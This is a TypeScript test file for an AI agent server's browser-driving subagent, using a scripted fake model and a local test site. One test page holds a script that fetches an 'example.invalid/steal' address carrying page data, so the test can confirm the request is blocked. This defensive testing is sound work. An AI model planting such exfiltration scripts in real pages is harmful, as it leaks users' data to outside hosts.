// Computer use through a real server process: the scripted fake model drives a computer-use subagent whose
// browser is the installed Chromium, on a test page served from 127.0.0.1. Off-loopback hosts are mapped to
// the same test server by Chromium's host resolver, so "nothing left the machine" is checked by what that
// server saw, not assumed.
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, beforeEach, test } from 'node:test';
import * as P from '../../server/protocol';
import type { Chat, ChatMessage, ModelConfig, PendingAction, ToolResultPart } from '../../server/protocol';
import { pngSize } from '../../server/computer/screenshotScale';
import type { CapturedRequest, FakeReply } from '../fakes/fakeOpenAI';
import { setupEnv, text, type Env } from './helpers';

type Server = Awaited<ReturnType<Env['start']>>;
interface Seen { method: string; host: string; path: string; body: string }

/** The app "the agent built": a form that POSTs to /submit, a page whose script calls another origin. */
async function startTestSite(): Promise<{ url: string; port: number; seen: Seen[]; close(): Promise<void> }> {
  const seen: Seen[] = [];
  const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => { body += c.toString(); });
    req.on('end', () => {
      seen.push({ method: req.method ?? '', host: req.headers.host ?? '', path: req.url ?? '', body });
      const html = (s: string) => { res.writeHead(200, { 'content-type': 'text/html' }); res.end(s); };
      if (req.url === '/' ) {
        return html(`<!doctype html><title>Sign up</title><body style="margin:0">
          <form method="POST" action="/submit">
            <input id="name" name="name" autocomplete="off" style="position:absolute;left:100px;top:100px;width:300px;height:40px">
            <button style="position:absolute;left:100px;top:200px;width:200px;height:60px">Send</button>
          </form>
          <script>console.error('boom at load')</script></body>`);
      }
      if (req.url === '/submit' && req.method === 'POST') {
        const name = new URLSearchParams(body).get('name') ?? '';
        return html(`<!doctype html><title>Thanks ${name}</title><h1>Thanks ${name}</h1>`);
      }
      if (req.url === '/leak') {
        return html(`<!doctype html><title>Leaky</title><p>loaded</p>
          <script>fetch('http://example.invalid:${port()}/steal?c=' + document.title).catch(() => {}); fetch('/missing').catch(() => {});</script>`);
      }
      res.writeHead(404, { 'content-type': 'text/plain' });
      res.end('not here');
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = () => (server.address() as AddressInfo).port;
  return { url: `http://127.0.0.1:${port()}`, port: port(), seen, close: () => new Promise((r) => { server.closeAllConnections(); server.close(() => r()); }) };
}

let env: Env;
let site: Awaited<ReturnType<typeof startTestSite>>;
beforeEach(async () => { env = await setupEnv(); site = await startTestSite(); });
afterEach(async () => { await env.cleanup(); await site.close(); });

/** example.invalid resolves to the test site, so a request that got out would be seen there. */
const browserEnv = () => ({ LOCAL_AGENTS_BROWSER_ARGS: JSON.stringify(['--host-resolver-rules=MAP example.invalid 127.0.0.1']) });
const call = (name: string, args: unknown): FakeReply => ({ kind: 'tools', calls: [{ name, args: JSON.stringify(args) }] });
const systemOf = (r: CapturedRequest) => String((r.messages?.[0] as { content?: string } | undefined)?.content ?? '');
const isChild = (r: CapturedRequest) => systemOf(r).includes('computer-use agent');
const toolNames = (r: CapturedRequest) => (r.tools ?? []).map((t) => (t as { function: { name: string } }).function.name);
const messages = async (s: Server, chatId: string) => (await s.request<unknown, P.MessagesPage>(P.GetMessages, { chat_id: chatId, limit: 200 })).messages;
const results = (msgs: ChatMessage[]) => msgs.flatMap((m) => m.content.filter((p): p is ToolResultPart => p.type === 'tool-result'));
const childOf = async (s: Server, parentId: string) => (await s.request<unknown, { chats: Chat[] }>(P.ListChats, { parent_chat_id: parentId })).chats;

interface Step { content: Array<{ type: string; text?: string; mime_type?: string; size_bytes?: number; data?: string }>; structured_content: { action: string; url: string; title: string; width: number; height: number; marker: { x: number; y: number } | null; console_errors: string[]; failed_requests: string[]; blocked_requests: string[] } }

/** The data URLs of the images a request carries (Chat Completions image_url parts). */
function imageUrls(r: CapturedRequest): string[] {
  return (r.messages ?? []).flatMap((m) => {
    const c = (m as { content?: unknown }).content;
    return Array.isArray(c) ? c.flatMap((p: { type?: string; image_url?: { url: string } }) => (p.type === 'image_url' && p.image_url ? [p.image_url.url] : [])) : [];
  });
}

/** Browser processes started for this chat's profile (its folder is named after the chat id). */
function browserProcesses(chatId: string): number[] {
  const pids: number[] = [];
  for (const d of readdirSync('/proc')) {
    if (!/^\d+$/.test(d)) continue;
    try {
      if (readFileSync(`/proc/${d}/cmdline`, 'utf8').includes(`la-computer-${chatId}`)) pids.push(Number(d));
    } catch {
      // gone meanwhile
    }
  }
  return pids;
}

test('a computer-use agent fills in a local form through clicks and typing; screenshots reach the model as 1024x640 images; the parent gets the report; the browser closes', async () => {
  const s = await env.start({}, browserEnv());
  let childStep = 0;
  env.fake.setHandler((req) => {
    if (!req.stream) return undefined;
    if (isChild(req)) {
      childStep++;
      if (childStep === 1) return call('computer', { action: 'navigate', url: `${site.url}/` });
      if (childStep === 2) return call('computer', { action: 'click', x: 200, y: 96 }); // the input: CSS (250, 120)
      if (childStep === 3) return call('computer', { action: 'type', text: 'Ada' });
      if (childStep === 4) return call('computer', { action: 'click', x: 160, y: 184 }); // the button: CSS (200, 230)
      if (childStep === 5) return call('computer', { action: 'screenshot' });
      return { kind: 'text', text: 'REPORT: the form greets Ada after submit.' };
    }
    const last = (req.messages as Array<{ role: string }>).at(-1)!;
    if (last.role === 'tool' || last.role === 'user' && JSON.stringify(last).includes('Images returned')) return { kind: 'text', text: 'The checker says it works.' };
    return call('spawn_computer_use_agent', { prompt: 'Check that the sign-up form works.', title: 'Check form', start_url: `${site.url}/` });
  });
  const parent = await s.request<unknown, Chat>(P.CreateChat, { content: text('build and check'), client_type: 'ui' });
  await s.waitFor(() => (s.events.get(parent.id) ?? []).some((e) => e.type === 'message' && JSON.stringify(e.message.content).includes('The checker says it works')), 60_000, 'parent answer');

  // The page's state changed through the browser: the endpoint got the typed name.
  const posts = site.seen.filter((r) => r.method === 'POST');
  assert.deepEqual(posts.map((p) => p.body), ['name=Ada']);

  const [child] = await childOf(s, parent.id);
  assert.equal(child.mode, 'computer_use');
  assert.equal(child.title, 'Check form');
  const steps = results(await messages(s, child.id));
  assert.equal(steps.length, 5);
  for (const r of steps) {
    assert.equal(r.is_error, undefined, JSON.stringify(r.result).slice(0, 300));
    const step = r.result as Step;
    assert.deepEqual(step.content.map((c) => c.type), ['text', 'image']);
    const img = step.content[1];
    assert.equal(img.mime_type, 'image/png');
    const png = Buffer.from(img.data!, 'base64');
    assert.equal(img.size_bytes, png.length);
    assert.deepEqual(pngSize(png), { width: 1024, height: 640 });
    assert.deepEqual(Object.keys(step.structured_content).sort(), ['action', 'blocked_requests', 'console_errors', 'failed_requests', 'height', 'marker', 'title', 'url', 'width']);
    assert.equal(step.structured_content.width, 1024);
  }
  const [nav, clickInput, typed, submit, shot] = steps.map((r) => (r.result as Step).structured_content);
  assert.equal(nav.title, 'Sign up');
  assert.deepEqual(nav.console_errors, ['boom at load']);
  assert.deepEqual(clickInput.marker, { x: 200, y: 96 });
  assert.equal(typed.marker, null);
  assert.equal(submit.url, `${site.url}/submit`, 'the click on the button submitted the form');
  assert.equal(submit.title, 'Thanks Ada');
  assert.equal(shot.title, 'Thanks Ada');
  assert.match((steps[3].result as Step).content[0].text!, /click — "Thanks Ada"/);

  // The model saw the screenshots as images: the newest 3 per request, each 1024x640.
  const childReqs = env.fake.requests.filter((r) => r.stream && isChild(r));
  assert.deepEqual(toolNames(childReqs[0]).sort(), ['computer', 'read_file']);
  assert.match(JSON.stringify(childReqs[0].messages), /Start by navigating to http:\/\/127\.0\.0\.1/);
  assert.equal(imageUrls(childReqs[0]).length, 0);
  assert.equal(imageUrls(childReqs[1]).length, 1);
  assert.equal(imageUrls(childReqs[5]).length, 3);
  for (const url of childReqs.flatMap(imageUrls)) {
    assert.match(url, /^data:image\/png;base64,/);
    assert.deepEqual(pngSize(Buffer.from(url.slice(url.indexOf(',') + 1), 'base64')), { width: 1024, height: 640 });
  }
  const parentReqs = env.fake.requests.filter((r) => r.stream && !isChild(r));
  assert.ok(toolNames(parentReqs[0]).includes('spawn_computer_use_agent'));
  assert.ok(!toolNames(parentReqs[0]).includes('computer'), 'the parent has no browser of its own');

  const [spawn] = results(await messages(s, parent.id));
  assert.match(JSON.stringify(spawn.result), /REPORT: the form greets Ada after submit/);
  assert.equal((spawn.result as { status: string }).status, 'waiting');

  // The turn ended: the browser and its profile are gone.
  await s.waitFor(() => browserProcesses(child.id).length === 0, 15_000, 'browser closed after the turn');
  await s.stop();
});

test('an off-loopback navigate asks; denied, nothing reaches that host; a page script calling another origin is blocked and reported', async () => {
  const s = await env.start({}, browserEnv());
  let childStep = 0;
  const away = `http://example.invalid:${site.port}/secret`;
  env.fake.setHandler((req) => {
    if (!req.stream) return undefined;
    if (isChild(req)) {
      childStep++;
      if (childStep === 1) return call('computer', { action: 'navigate', url: away });
      if (childStep === 2) return call('computer', { action: 'navigate', url: `${site.url}/leak` });
      return { kind: 'text', text: 'REPORT: done' };
    }
    const last = (req.messages as Array<{ role: string }>).at(-1)!;
    return last.role === 'tool' ? { kind: 'text', text: 'ok' } : call('spawn_computer_use_agent', { prompt: 'look around' });
  });
  const parent = await s.request<unknown, Chat>(P.CreateChat, { content: text('go') });
  let childId = '';
  await s.waitFor(() => {
    const created = s.watch.find((w) => w.kind === 'created' && w.chat.parent_chat_id === parent.id);
    if (created) childId = created.chat.id;
    return !!childId;
  }, 20_000, 'child created');
  await s.waitForStatus(childId, ['requires_action'], 30_000);
  const [action] = await s.request<unknown, PendingAction[]>(P.ListPendingActions, { chat_id: childId });
  assert.equal(action.tool_name, 'computer');
  assert.deepEqual(action.needs.map((n) => n.rule), [`computer(http://example.invalid:${site.port}/*)`]);
  assert.match(action.needs[0].reason, /leave this machine/);
  // The parent still waits for its child meanwhile.
  assert.equal((await s.request<unknown, Chat>(P.GetChat, { chat_id: parent.id })).status, 'running');
  await s.request(P.DecideToolCall, { chat_id: childId, tool_call_id: action.tool_call_id, decision: 'deny', reason: 'stay local' });
  await s.waitForStatus(parent.id, ['waiting'], 60_000);

  const steps = results(await messages(s, childId));
  assert.equal(steps[0].is_error, true);
  assert.match(JSON.stringify(steps[0].result), /denied by the user: stay local/);
  const leak = steps[1].result as Step;
  assert.equal(steps[1].is_error, undefined);
  assert.equal(leak.structured_content.title, 'Leaky');
  assert.equal(leak.structured_content.blocked_requests.length, 1, JSON.stringify(leak.structured_content));
  assert.match(leak.structured_content.blocked_requests[0], /^GET http:\/\/example\.invalid:\d+\/steal\?c=Leaky \(no allow rule covers this origin\)/);
  assert.match(leak.content[0].text!, /1 blocked request\(s\)[\s\S]*navigate to the page to ask the user[\s\S]*computer\(<origin>\/\*\)/);
  assert.ok(leak.structured_content.failed_requests.some((f) => /\/missing: HTTP 404/.test(f)), JSON.stringify(leak.structured_content.failed_requests));
  assert.ok(!leak.structured_content.failed_requests.some((f) => f.includes('example.invalid')), 'a blocked request is not also a failed one');
  // Neither the denied navigate nor the script's fetch reached the (mapped) host.
  assert.deepEqual(site.seen.filter((r) => r.host.startsWith('example.invalid')), []);
  await s.stop();
});

test('interrupting the parent closes the subagent\'s browser: no process of its profile is left', async () => {
  const s = await env.start({}, browserEnv());
  let childStep = 0;
  env.fake.setHandler((req) => {
    if (!req.stream) return undefined;
    if (isChild(req)) return ++childStep === 1 ? call('computer', { action: 'navigate', url: `${site.url}/` }) : { kind: 'hang' };
    return call('spawn_computer_use_agent', { prompt: 'check slowly' });
  });
  const parent = await s.request<unknown, Chat>(P.CreateChat, { content: text('go') });
  let childId = '';
  await s.waitFor(() => {
    childId ||= s.watch.find((w) => w.kind === 'created' && w.chat.parent_chat_id === parent.id)?.chat.id ?? '';
    return !!childId && childStep >= 2;
  }, 30_000, 'child navigated and waits on the model');
  assert.ok(browserProcesses(childId).length > 0, 'the browser runs while the child works');
  await s.request(P.InterruptChat, { chat_id: parent.id });
  await s.waitForStatus(childId, ['waiting'], 10_000);
  await s.waitFor(() => browserProcesses(childId).length === 0, 15_000, 'browser processes gone');
  await s.stop();
});

test('spawn_computer_use_agent is refused in plan mode, to explore agents, and for a model that takes no images', async () => {
  const s = await env.start({}, browserEnv());
  // Plan mode: not offered, and refused when called anyway.
  env.fake.setHandler((req) => {
    if (!req.stream) return undefined;
    if (systemOf(req).includes('explore agent')) {
      return (req.messages as Array<{ role: string }>).at(-1)!.role === 'tool' ? { kind: 'text', text: 'explored' } : call('spawn_computer_use_agent', { prompt: 'nested' });
    }
    const last = (req.messages as Array<{ role: string }>).at(-1)!;
    if (last.role === 'tool') return { kind: 'text', text: 'fine' };
    return systemOf(req).includes('PLAN MODE') ? call('spawn_computer_use_agent', { prompt: 'p' }) : call('spawn_explore_agent', { prompt: 'look' });
  });
  const planned = await s.request<unknown, Chat>(P.CreateChat, { content: text('plan'), mode: 'plan' });
  await s.waitForStatus(planned.id, ['waiting'], 20_000);
  const planReq = env.fake.requests.find((r) => r.stream && systemOf(r).includes('PLAN MODE'))!;
  assert.ok(!toolNames(planReq).includes('spawn_computer_use_agent'));
  assert.ok(!toolNames(planReq).includes('computer'));
  assert.match(JSON.stringify(results(await messages(s, planned.id))[0].result), /not available in plan mode/);

  const explorer = await s.request<unknown, Chat>(P.CreateChat, { content: text('explore') });
  await s.waitForStatus(explorer.id, ['waiting'], 20_000);
  const [exploreChild] = await childOf(s, explorer.id);
  assert.match(JSON.stringify(results(await messages(s, exploreChild.id))[0].result), /not available to explore agents/);
  assert.equal((await childOf(s, exploreChild.id)).length, 0);

  // A model marked as taking no images: the spawn fails before any child exists, naming the model and the setting.
  const [main] = await s.request<unknown, ModelConfig[]>(P.ListModelConfigs, {});
  const blind = await s.request<unknown, ModelConfig>(P.CreateModelConfig, { provider_id: main.provider_id, model: 'blind-model', context_limit: 1000, options: { image_input: 'no' } });
  const info = await s.request<unknown, P.ServerSettingsInfo>(P.UpdateSettings, { computer_use: { model: 'blind-model' } });
  assert.equal(info.computer_use.model_status, 'ok');
  env.fake.setHandler((req) => {
    if (!req.stream) return undefined;
    const last = (req.messages as Array<{ role: string }>).at(-1)!;
    return last.role === 'tool' ? { kind: 'text', text: 'noted' } : call('spawn_computer_use_agent', { prompt: 'check' });
  });
  const chat = await s.request<unknown, Chat>(P.CreateChat, { content: text('check it') });
  await s.waitForStatus(chat.id, ['waiting'], 20_000);
  const [refused] = results(await messages(s, chat.id));
  assert.equal(refused.is_error, true);
  assert.match(JSON.stringify(refused.result), new RegExp(`model \\\\"blind-model\\\\" \\(model config ${blind.id}\\) is marked as not taking images[\\s\\S]*localAgents\\.computerUse\\.model`));
  assert.equal((await childOf(s, chat.id)).length, 0);
  await s.stop();
});
